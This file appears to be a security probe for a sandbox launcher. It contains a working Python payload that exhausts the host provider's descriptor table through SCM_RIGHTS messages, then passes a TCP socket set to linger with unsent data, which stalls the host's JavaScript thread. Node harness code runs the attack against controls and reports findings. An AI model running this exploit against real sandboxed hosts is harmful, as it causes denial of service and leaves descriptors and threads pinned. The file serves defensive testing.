'use strict';
// R14w: a passed descriptor dropped by the kernel on the JS thread.
//
// fd 3 is now received on Node's JS thread (src/loop_reader.rs ->
// crates/launcher/src/run/owner_reader.rs:97 read_once -> recv_neutralising).
// crates/passed-fds neutralises every descriptor it *receives* (SO_LINGER {1,0},
// closed on a detached thread), but a descriptor the kernel cannot install
// (the provider's descriptor table is full: EMFILE -> MSG_CTRUNC) is released by
// the kernel inside recvmsg, in the receiving thread: a lingering TCP socket with
// unsent data then blocks that thread in tcp_close — now the JS thread.
//
// The sandbox fills the provider's table with R4-4's documented nested case:
// each message [Y, P, 200 x /dev/null] where Y is a unix socket whose queue holds
// T (a loopback TCP socket, SO_LINGER 3600 s, unsent data) and P is T's peer
// (never read): the detached closer thread blocks closing Y, so the 201 other
// descriptors stay open in the provider (for up to 3600 s, whatever the run does).
// Then one message carrying a lingering T alone (its peer kept by the sandbox).
//
// Scenarios (each in its own child node process, killed at the end):
//   kill          : control, the lingering socket alone (no full table): neutralised
//   pins+fill     : control, table filled, last message /dev/null copies only
//   pins+fill+T   : the attack (FINDING if the JS thread stalls > 3 s; it lasts
//                   while the sandbox lives: T's peer is the sandbox's)
//   pins+fill+T+P : T's peer pinned in the provider first: the stall outlives
//                   the run (FINDING if the child provider never reports)
// The sandbox pins until the host side (this probe) reports < 240 free slots
// (it asks with '?' on fd 3), so the controls never overflow the table.
// Needs python3 in the sandbox (readOnly() binds /usr); mediated network (as
// round4.test.js's R4-4 test) so the program may make loopback TCP sockets.
const path = require('node:path');
const fs = require('node:fs');
const { spawn } = require('node:child_process');
const PKG = process.env.R14W_PKG || path.resolve(__dirname, '../../../..');
const HOLD_S = Number(process.env.R14W_HOLD_S || 12);
const F = 200;

const py = `
import socket, os, array, time, sys, errno, struct
S = socket.SOL_SOCKET
s3 = socket.socket(fileno=3); s3.setblocking(True)
pins, kill, hold = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
null = os.open('/dev/null', os.O_RDONLY)
L = socket.socket(); L.setsockopt(S, socket.SO_RCVBUF, 2048); L.bind(('127.0.0.1', 0)); L.listen(64)
def lingering():
    t = socket.socket(); t.setsockopt(S, socket.SO_SNDBUF, 65536)
    t.connect(L.getsockname()); p, _ = L.accept()
    t.setblocking(False)
    try:
        while True: t.send(b'z' * 4096)
    except BlockingIOError: pass
    t.setsockopt(S, socket.SO_LINGER, struct.pack('ii', 1, 3600))
    return t, p
def send(data, fds):
    while True:
        try: return s3.sendmsg([data], [(S, socket.SCM_RIGHTS, array.array('i', fds))])
        except OSError as e:
            if e.errno == errno.ETOOMANYREFS: time.sleep(0.002); continue
            raise
def prefill():
    # fd 3 filled first, so the host reads ~200 KiB before the next message
    # and the sandbox's close of its copies right after the send is never the
    # last reference (the host would otherwise close Y first, and the sandbox
    # would be the one to purge it)
    s3.setblocking(False)
    try:
        while True: s3.send(b'.' * 65536)
    except BlockingIOError: pass
    s3.setblocking(True)
rf = s3.makefile('rb', buffering=0)
def free():
    # the host's free descriptor slots, as the probe's host side reports them
    s3.sendall(b'?')
    line = b''
    while not line.endswith(b'\\n'): line += rf.read(1)
    return int(line)
i = 0
while pins and free() > ${F} + 40:
    i += 1
    t, p = lingering()
    x, y = socket.socketpair()
    while True:
        try: x.sendmsg([b'n'], [(S, socket.SCM_RIGHTS, array.array('i', [t.fileno()]))]); break
        except OSError as e:
            if e.errno == errno.ETOOMANYREFS: time.sleep(0.002); continue
            raise
    t.close()  # T now lives only in Y's queue
    prefill()
    send(b'p', [y.fileno(), p.fileno()] + [null] * ${F})
    for f in (p, x, y): f.close()
os.write(2, b'pinned %d free %d\\n' % (i, free() if pins else -1))
time.sleep(1)
keep = []
if kill:
    # 1: T alone; 2: 150 x /dev/null then T (the table's last free slots
    # taken first); 3: the 150 x /dev/null alone
    t, p = lingering() if kill != 3 else (os.fdopen(os.dup(null)), None); keep.append(p)
    if kill == 4:
        # T's peer handed over too, pinned behind one more blocking close: then
        # nothing of the sandbox is needed to keep T lingering
        t2, p2 = lingering(); x2, y2 = socket.socketpair()
        x2.sendmsg([b'n'], [(S, socket.SCM_RIGHTS, array.array('i', [t2.fileno()]))]); t2.close()
        prefill(); send(b'p', [y2.fileno(), p2.fileno(), p.fileno()])
        for f in (p2, x2, y2, p): f.close()
        keep.clear(); time.sleep(0.5)
    room = free() + 8 if pins else 150
    fds = {1: [t.fileno()], 2: [null] * room + [t.fileno()], 3: [null] * room, 4: [null] * room + [t.fileno()]}[kill]
    prefill()
    send(b'k', fds); t.close()
    os.write(2, b'kill sent\\n')
time.sleep(hold)
os.write(2, b'exiting\\n')
`;

function nofile() {
  const line = fs.readFileSync('/proc/self/limits', 'utf8').split('\n').find((l) => l.startsWith('Max open files'));
  return Number(line.split(/\s+/)[3]);
}
function fdCount() { try { return fs.readdirSync('/proc/self/fd').length; } catch (e) { return e.code; } }

async function child(name) {
  const { spawnIsolated, readOnly } = require(PKG);
  const limit = nofile();
  const base = fdCount();
  // Leave ~60 slots free (the launcher's own descriptors for the run).
  const pins = name.includes('pins') ? 1 : 0; // the sandbox pins until the host reports < F + 40 free slots
  const kill = name === 'kill' ? 1 : name === 'pins+fill+T' ? 2 : name === 'pins+fill' ? 3 : name === 'pins+fill+T+P' ? 4 : 0;
  let last = Date.now(); let maxGap = 0; let killAt = null; let gapAfterKill = 0;
  const hb = setInterval(() => { const now = Date.now(); const g = now - last; maxGap = Math.max(maxGap, g); if (process.env.R14W_DEBUG && g > 500) fs.writeSync(2, `gap ${g} ms at ${now - t0}\n`); if (killAt) gapAfterKill = Math.max(gapAfterKill, g); last = now; }, 50);
  const t0 = Date.now();
  const e = spawnIsolated(['/usr/bin/python3', '-c', py, String(pins), String(kill), String(HOLD_S)], { policy: { ...readOnly(), network: { mode: 'mediated', allow: ['example.com:443'] } }, networkRelayPath: path.join(PKG, 'target/release/cordon-egress-relay') });
  let got = 0;
  e.protocol.on('data', (c) => {
    got += c.length;
    if (!killAt && c.includes(107)) killAt = Date.now();
    for (let i = c.indexOf(63); i !== -1; i = c.indexOf(63, i + 1)) {
      setTimeout(() => { const n = fdCount(); e.protocol.write(`${typeof n === 'number' ? limit - n : 0}\n`); }, 30);
    }
  });
  let err = ''; e.stderr.on('data', (c) => { err += c; if (process.env.R14W_DEBUG) fs.writeSync(2, `[${Date.now() - t0} ms] ${c}`); });
  let pinnedFds = null;
  const poll = setInterval(() => { if (err.includes('pinned') && pinnedFds === null) setTimeout(() => { pinnedFds = fdCount(); }, 500); }, 50);
  const r = await e.wait().catch((x) => ({ returncode: x.code }));
  fs.writeSync(2, `[${name}] settled after ${Date.now() - t0} ms\n`);
  clearInterval(hb); clearInterval(poll);
  await new Promise((res) => setTimeout(res, 2000));
  const fdsAfterRun2s = fdCount();
  const closerThreadsAfterRun2s = fs.readdirSync('/proc/self/task').filter((t) => { try { return fs.readFileSync(`/proc/self/task/${t}/comm`, 'utf8').startsWith('cordon-fd-close'); } catch { return false; } }).length;
  let openAfter;
  try { fs.closeSync(fs.openSync('/dev/null', 'r')); openAfter = 'ok'; } catch (x) { openAfter = x.code; }
  const out = { name, limit, base, pins, pinnedFds, rc: r.returncode, protocolOut: r.receipt?.bytes?.protocolOut, runMs: Date.now() - t0,
    maxHeartbeatGapMs: maxGap, fdsAfterRun2s, closerThreadsAfterRun2s, gapAfterKillMs: gapAfterKill, openAfterRun: openAfter, stderr: err.trim().split('\n') };
  process.stdout.write(JSON.stringify(out) + '\n');
  process.exit(0);
}

/** The command names of `pid`'s descendant processes (the sandbox, if still there). */
function descendants(pid) {
  const kids = new Map();
  for (const d of fs.readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
    try { const st = fs.readFileSync(`/proc/${d}/stat`, 'utf8'); const ppid = Number(st.split(') ')[1].split(' ')[1]); const comm = st.slice(st.indexOf('(') + 1, st.lastIndexOf(')')); (kids.get(ppid) || kids.set(ppid, []).get(ppid)).push([Number(d), comm]); } catch {}
  }
  const out = []; const walk = (p) => { for (const [k, comm] of kids.get(p) || []) { out.push(comm); walk(k); } };
  walk(pid);
  return out;
}

function runChild(name) {
  return new Promise((resolve) => {
    const c = spawn(process.execPath, [__filename, 'child', name], { stdio: ['ignore', 'pipe', 'inherit'] });
    let out = '';
    c.stdout.on('data', (d) => { out += d; });
    let killed = false; const t0 = Date.now();
    const timer = setTimeout(() => { killed = descendants(c.pid); try { process.kill(c.pid, 'SIGKILL'); } catch {} }, (HOLD_S + 40) * 1000);
    c.on('exit', () => { clearTimeout(timer); try { resolve(JSON.parse(out.trim().split('\n').pop())); } catch { resolve({ name, raw: out, killedByProbeAfterMs: killed ? Date.now() - t0 : null, processesUnderItThen: killed || null }); } });
  });
}

(async () => {
  if (process.argv[2] === 'child') return child(process.argv[3]);
  const res = {};
  for (const name of (process.argv.slice(2).length ? process.argv.slice(2) : ['kill', 'pins+fill', 'pins+fill+T', 'pins+fill+T+P'])) {
    res[name] = await runChild(name);
    console.log(JSON.stringify(res[name]));
  }
  const tp = res['pins+fill+T+P'];
  if (tp && tp.killedByProbeAfterMs) console.log(`FINDING: with T's peer pinned in the provider too, the JS thread never came back: the run (its program sleeps ${HOLD_S} s and exits) never reported settling; the child provider was SIGKILLed by the probe after ${tp.killedByProbeAfterMs} ms, its processes then: ${JSON.stringify(tp.processesUnderItThen)} (T lingers 3600 s)`);
  const a = res['pins+fill+T'];
  if (!a) return;
  const ctl = [res.kill, res['pins+fill']].filter(Boolean);
  if (a.rc === 0 && a.maxHeartbeatGapMs > 3000 && ctl.length === 2 && ctl.every((c) => c.maxHeartbeatGapMs < 1000))
    console.log(`FINDING: with the provider's descriptor table filled through fd 3 (${a.stderr[0]}), one lingering TCP socket passed on fd 3 stalls the provider's JS thread for ${a.maxHeartbeatGapMs} ms (controls: ${ctl.map((c) => c.name + ' ' + c.maxHeartbeatGapMs + ' ms').join(', ')})`);
  else console.log(`held (pins+kill max gap ${a.maxHeartbeatGapMs} ms; controls ${ctl.map((c) => c.name + ' ' + c.maxHeartbeatGapMs).join(', ')})`);
  const f = res['pins+fill'];
  if (f && typeof f.fdsAfterRun2s === 'number' && f.fdsAfterRun2s > f.limit / 2) console.log(`FINDING (R4-4's documented nested case, amplified): 2 s after the run settled the provider still holds ${f.fdsAfterRun2s} of its ${f.limit} descriptors and ${f.closerThreadsAfterRun2s} blocked closer threads (${f.stderr[0]}); control 'kill': ${res.kill?.fdsAfterRun2s}`);
})();
